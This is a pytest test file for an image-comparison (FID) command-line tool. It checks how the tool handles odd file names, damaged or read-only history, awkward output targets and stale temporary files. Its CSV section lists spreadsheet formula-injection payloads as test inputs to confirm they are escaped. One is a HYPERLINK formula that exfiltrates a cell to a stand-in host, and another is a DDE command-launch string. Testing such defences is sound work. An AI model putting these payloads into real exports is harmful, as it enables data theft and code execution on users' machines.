"""Where results go when the world is unkind: odd file names, read-only and damaged histories, unwritable or
special targets, links, leftovers of killed writes, and spreadsheet formulas in names (issue 10, items 7, 12-14).

Each test builds its hostile situation in a temporary folder and runs the real command line in a real process
where the failure used to be a traceback at the very end of a run.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import sqlite3
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest

from conftest import IMAGES, REPO
from fidgui.core.base.atomic_files import STALE_AFTER_SECONDS, OutputNotWritten, write_text_atomically
from fidgui.core.base.comparison_types import ComparisonResult, SideSummary
from fidgui.core.base.errors import FidguiError
from fidgui.core.base.user_dirs import data_dir
from fidgui.core.report.document import result_to_csv
from fidgui.core.stores.history import FILE_NAME, History, entries_to_csv
from fidgui.messages.render import render

BAD_BYTE_NAME = b"bad\xff\xfename"  # not valid UTF-8: Python sees the name as "bad\udcff\udcfename"


def _cli(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    """The command line in its own process; stdout strict UTF-8 as on a UTF-8 terminal that is not Python's."""
    environment = dict(os.environ, PYTHONPATH=str(REPO), PYTHONIOENCODING="utf-8", **(env or {}))
    return subprocess.run(
        [sys.executable, "-m", "fidgui.cli", *args], capture_output=True, text=True, timeout=300, env=environment,
        errors="surrogateescape",
    )


def _few_images(folder: Path, source: str, count: int = 4) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for file in sorted((IMAGES / source).iterdir())[:count]:
        shutil.copy(file, folder / file.name)
    return folder


# -- 7: file names that are not UTF-8 -------------------------------------------------------------------------

@pytest.mark.skipif(sys.platform in ("win32", "darwin"), reason="only POSIX filesystems other than APFS allow such names")
def test_names_that_are_not_utf8_are_carried_through_cache_history_and_json(tmp_path: Path, fixture_onnx: Path) -> None:
    real = _few_images(tmp_path / "real", "small_a")
    generated = _few_images(Path(os.fsdecode(os.fsencode(tmp_path) + b"/gen-" + BAD_BYTE_NAME)), "small_b")
    (real / os.fsdecode(BAD_BYTE_NAME + b".png")).write_text("not a picture")  # a skipped file with that name
    for attempt in ("cold", "from the folder cache"):
        completed = _cli("fid", str(real), str(generated), "--model", str(fixture_onnx), "--json")
        assert completed.returncode == 0, (attempt, completed.stderr[-2000:])
        assert "Traceback" not in completed.stderr
        document = json.loads(completed.stdout.encode("utf-8", "surrogateescape").decode("utf-8"))  # valid UTF-8
        (skipped,) = document["skipped"]
        assert os.fsencode(skipped["path"]).endswith(BAD_BYTE_NAME + b".png")  # the exact bytes, from an escape
        assert os.fsencode(document["generated"]["source"]) == os.fsencode(generated)
    listing = _cli("history", "list")
    assert listing.returncode == 0 and "gen-bad\\xff\\xfename" in listing.stdout, listing.stderr
    shown = _cli("history", "show", listing.stdout.split()[0])
    assert shown.returncode == 0 and os.fsencode(json.loads(shown.stdout)["skipped"][0]["path"]).endswith(
        BAD_BYTE_NAME + b".png")
    human = _cli("fid", str(real), str(generated), "--model", str(fixture_onnx), "--no-history")
    assert human.returncode == 0 and "FID:" in human.stdout
    assert "bad\\udcff\\udcfename.png" in human.stderr  # the skipped file is reported, escaped


# -- 12: the history ------------------------------------------------------------------------------------------

def _record(history_path: Path, count: int) -> list[int]:
    with History(history_path) as history:
        return [history.record({"fid": float(index), "real": {"source": "/r"}, "generated": {"source": "/g"}})
                for index in range(count)]


def _make_read_only(paths: list[Path], read_only: bool) -> None:
    """Read-only for this process: permission bits, or for root (who ignores them) the immutable attribute."""
    for path in paths:
        if os.geteuid() == 0:
            subprocess.run(["chattr", "+i" if read_only else "-i", str(path)], check=True)
        else:
            path.chmod((0o555 if path.is_dir() else 0o444) if read_only else 0o755)


@pytest.mark.skipif(not hasattr(os, "geteuid"), reason="POSIX permissions")
def test_history_list_works_on_a_read_only_profile(tmp_path: Path) -> None:
    history_path = tmp_path / "home" / "data" / FILE_NAME
    history_path.parent.mkdir(parents=True)
    _record(history_path, 2)
    locked = [history_path, history_path.parent]
    _make_read_only(locked, True)
    try:
        completed = _cli("history", "list", env={"FIDGUI_HOME": str(tmp_path / "home")})
        with History(history_path) as history:
            assert history.read_only and [entry.id for entry in history.list_entries()] == [2, 1]
            with pytest.raises(FidguiError):
                history.record({"fid": 1.0})  # a sentence, not a traceback: nothing can be recorded there
    finally:
        _make_read_only(locked, False)
    assert completed.returncode == 0, completed.stderr
    assert [line.split()[0] for line in completed.stdout.splitlines()] == ["2", "1"]
    assert "can only be read" in completed.stderr and "Traceback" not in completed.stderr


def test_a_damaged_history_set_aside_never_gives_a_number_twice() -> None:
    path = data_dir() / FILE_NAME
    assert _record(path, 3) == [1, 2, 3]
    path.write_bytes(b"this is not a database" * 100)
    with History(path) as history:
        assert any("set aside" in str(notice) for notice in history.notices)
        assert history.record({"fid": 9.0}) == 4  # not 1 again: number 1 still means the first comparison
    path.unlink()  # even a history deleted by hand continues the numbering
    assert _record(path, 1) == [5]


def test_rows_that_are_not_json_are_listed_as_damaged_and_shown_as_a_sentence() -> None:
    path = data_dir() / FILE_NAME
    first, second = _record(path, 2)
    with sqlite3.connect(path) as connection:
        connection.execute("UPDATE comparisons SET metrics = '{not json', result = 'oops' WHERE id = ?", (first,))
    with History(path) as history:
        entries = {entry.id: entry for entry in history.list_entries()}
        assert entries[first].damaged and not entries[second].damaged and entries[second].fid == 1.0
    listing = _cli("history", "list")
    assert listing.returncode == 0 and "Traceback" not in listing.stderr
    shown = _cli("history", "show", str(first))
    assert shown.returncode == 1 and "is damaged in the history" in shown.stderr and "Traceback" not in shown.stderr
    huge = _cli("history", "show", "99999999999999999999")
    assert huge.returncode == 1 and "99999999999999999999 is not in the history" in huge.stderr
    assert "Traceback" not in huge.stderr


def test_the_history_notices_reach_the_command_line_and_its_json(tmp_path: Path, fixture_onnx: Path) -> None:
    path = data_dir() / FILE_NAME
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(b"garbage, not a database" * 50)
    real, generated = _few_images(tmp_path / "r", "small_a"), _few_images(tmp_path / "g", "small_b")
    completed = _cli("fid", str(real), str(generated), "--model", str(fixture_onnx), "--json", "--no-cache")
    assert completed.returncode == 0, completed.stderr
    assert "set aside" in completed.stderr
    assert any("set aside" in text for text in json.loads(completed.stdout)["warnings"])


# -- 13: writing outputs --------------------------------------------------------------------------------------

def test_a_failed_save_of_statistics_comes_after_the_fid_and_fails_the_command(
    tmp_path: Path, fixture_onnx: Path
) -> None:
    real, generated = _few_images(tmp_path / "r", "small_a"), _few_images(tmp_path / "g", "small_b")
    blocker = tmp_path / "not-a-folder"
    blocker.write_text("a file where the statistics folder should be")
    completed = _cli("fid", str(real), str(generated), "--model", str(fixture_onnx), "--no-history",
                     "--save-stats", str(blocker / "run1"))
    assert completed.returncode == 1
    assert completed.stdout.startswith("FID: ")  # the figure is not lost
    assert "not-a-folder is a file, not a folder" in completed.stderr and "Traceback" not in completed.stderr
    assert blocker.read_text().startswith("a file")


def test_history_export_to_a_full_device_or_an_impossible_place_is_a_sentence(tmp_path: Path) -> None:
    _record(data_dir() / FILE_NAME, 1)
    if Path("/dev/full").exists():
        full = _cli("history", "export", "/dev/full")
        assert full.returncode == 1 and "No space left on device" in full.stderr and "Traceback" not in full.stderr
    (tmp_path / "file").write_text("x")
    impossible = _cli("history", "export", str(tmp_path / "file" / "history.csv"))
    assert impossible.returncode == 1 and "is a file, not a folder" in impossible.stderr
    folder = _cli("history", "export", str(tmp_path))
    assert folder.returncode == 1 and "is a folder" in folder.stderr


def test_exporting_onto_a_link_writes_its_target_and_keeps_the_link(tmp_path: Path) -> None:
    target = tmp_path / "kept" / "history.csv"
    target.parent.mkdir()
    target.write_text("old")
    link = tmp_path / "latest.csv"
    link.symlink_to(target)
    write_text_atomically(link, "id,fid\n1,2.5\n")
    assert link.is_symlink() and link.resolve() == target.resolve()
    assert target.read_text() == "id,fid\n1,2.5\n"
    dangling = tmp_path / "next.csv"
    dangling.symlink_to(tmp_path / "kept" / "new.csv")
    write_text_atomically(dangling, "x\n")
    assert dangling.is_symlink() and (tmp_path / "kept" / "new.csv").read_text() == "x\n"


@pytest.mark.skipif(not Path("/dev/null").exists(), reason="POSIX devices")
def test_devices_and_pipes_are_written_through_never_replaced(tmp_path: Path) -> None:
    to_null = tmp_path / "to-null.csv"
    to_null.symlink_to("/dev/null")
    write_text_atomically(to_null, "discarded\n")
    assert to_null.is_symlink() and stat.S_ISCHR(os.stat("/dev/null").st_mode)
    pipe = tmp_path / "pipe.csv"
    os.mkfifo(pipe)
    with pytest.raises(OutputNotWritten) as nobody_reads:
        write_text_atomically(pipe, "x\n")  # never waits for a reader that may not come
    assert nobody_reads.value.code == "output_pipe_without_reader" and isinstance(nobody_reads.value, OSError)
    reader = os.open(pipe, os.O_RDONLY | os.O_NONBLOCK)
    try:
        write_text_atomically(pipe, "through the pipe\n")
        assert os.read(reader, 100) == b"through the pipe\n"
    finally:
        os.close(reader)
    assert stat.S_ISFIFO(os.lstat(pipe).st_mode)
    _record(data_dir() / FILE_NAME, 1)
    to_stdout = _cli("history", "export", "/dev/stdout")
    assert to_stdout.returncode == 0 and to_stdout.stdout.startswith("id,date,real,generated,fid")
    assert os.path.islink("/dev/stdout") or stat.S_ISCHR(os.stat("/dev/stdout").st_mode)


def test_stale_temporaries_of_killed_writes_are_removed_and_only_ours(tmp_path: Path) -> None:
    target = tmp_path / "history.csv"
    old, young = tmp_path / ".history.csv.k1ll3d_9.tmp", tmp_path / ".history.csv.running.tmp"
    foreign = [tmp_path / ".history.csv.notours!.tmp", tmp_path / ".other.csv.abcdefgh.tmp", tmp_path / "x.tmp"]
    fresh = tmp_path / ".history.csv.abcdefgh.tmp"
    for leftover in (old, young, fresh, *foreign):
        leftover.write_bytes(b"\0" * 1000)
    long_ago = time.time() - STALE_AFTER_SECONDS - 60
    for leftover in (old, young, *foreign):
        os.utime(leftover, (long_ago, long_ago))
    write_text_atomically(target, "done\n")
    assert not old.exists()  # killed long ago: removed
    assert fresh.exists()  # young: may be a write still running in another process
    assert young.exists() and all(path.exists() for path in foreign)  # not our pattern (8 characters) or not ours
    assert sorted(path.name for path in tmp_path.iterdir() if path.name.startswith(".history")) == sorted(
        [young.name, fresh.name, foreign[0].name])


# -- 14: formulas in spreadsheet cells ------------------------------------------------------------------------

HOSTILE_NAMES = ['=HYPERLINK("http://x.example/?"&A1,"ok")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                 "\tTAB=1"]


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_cells_that_would_be_formulas_are_guarded_and_numbers_stay_numbers() -> None:
    for name in HOSTILE_NAMES:
        result = ComparisonResult(
            fid=12.5, real=SideSummary(name, 10), generated=SideSummary("-0.5", 10), mode="pytorch-fid",
            decode="faithful", model_sha256="ab" * 32, model_is_standard=True, device="CPU", seconds=1.0,
            warnings=[], kid_mean=-0.0012, kid_std=0.0004,
        )
        (row,) = _cells(result_to_csv(result))
        assert row["real"] == "'" + name
        assert row["generated"] == "-0.5"  # a plain number, even as text, is left alone
        assert row["kid_mean"] == "-0.0012" and float(row["kid_mean"]) < 0
    path = data_dir() / FILE_NAME
    with History(path) as history:
        for name in HOSTILE_NAMES:
            history.record({"fid": 1.0, "kid_mean": -0.0012, "real": {"source": name}, "generated": {"source": "g"}})
        rows = _cells(entries_to_csv(history.list_entries()))
    assert sorted(row["real"] for row in rows) == sorted("'" + name for name in HOSTILE_NAMES)
    assert {row["kid_mean"] for row in rows} == {"-0.0012"}


def test_a_leading_carriage_return_is_guarded_too() -> None:
    from fidgui.core.base.csv_cells import spreadsheet_safe

    assert spreadsheet_safe("\r=1") == "'\r=1" and spreadsheet_safe("-1.5e-3") == "-1.5e-3"
    assert spreadsheet_safe("-inf") == "'-inf" and spreadsheet_safe(-2.5) == -2.5 and spreadsheet_safe("a=b") == "a=b"


def test_render_of_an_unwritable_output_names_the_file() -> None:
    error = OutputNotWritten("output_not_written", path="/x/y.csv", reason="Read-only file system")
    assert render(error).startswith("/x/y.csv could not be written (Read-only file system)")


def test_every_code_of_this_area_has_its_three_translations_with_the_same_placeholders() -> None:
    import re

    from fidgui.messages.catalog_inputs import ENGLISH
    from fidgui.messages.translations_inputs import TRANSLATIONS

    codes = list(ENGLISH)
    assert len(codes) > 30 and set(TRANSLATIONS) == {"zh_CN", "zh_TW", "ja"}
    for table in TRANSLATIONS.values():
        assert set(table) == set(codes)
        for code, text in table.items():
            assert set(re.findall(r"\{(\w+)\}", text)) == set(re.findall(r"\{(\w+)\}", ENGLISH[code])), code
